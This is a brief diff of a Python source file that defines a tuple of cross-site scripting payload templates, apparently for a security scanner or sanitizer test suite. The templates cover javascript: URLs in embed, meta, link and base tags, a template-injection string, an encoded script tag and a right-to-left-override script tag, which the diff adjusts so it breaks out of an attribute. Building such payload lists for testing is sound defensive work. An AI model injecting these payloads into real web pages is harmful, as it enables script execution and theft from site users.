@@ -37,7 +37,7 @@ PAYLOADS = tuple(
         "<embed src=javascript:{code}>", "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
         "<link rel=stylesheet href=javascript:{code}>", "<base href=javascript:{code}//>", "javascript:{code}",
         "{{{{constructor.constructor('{code}')()}}}}", "<template><script>{code}</script></template>",
-        "&lt;script&gt;{code}&lt;/script&gt;", "\u202e<script>{code}</script>",
+        "&lt;script&gt;{code}&lt;/script&gt;", "\u202e><b><script>{code}</script>",
     )
 )  # fmt: skip
 
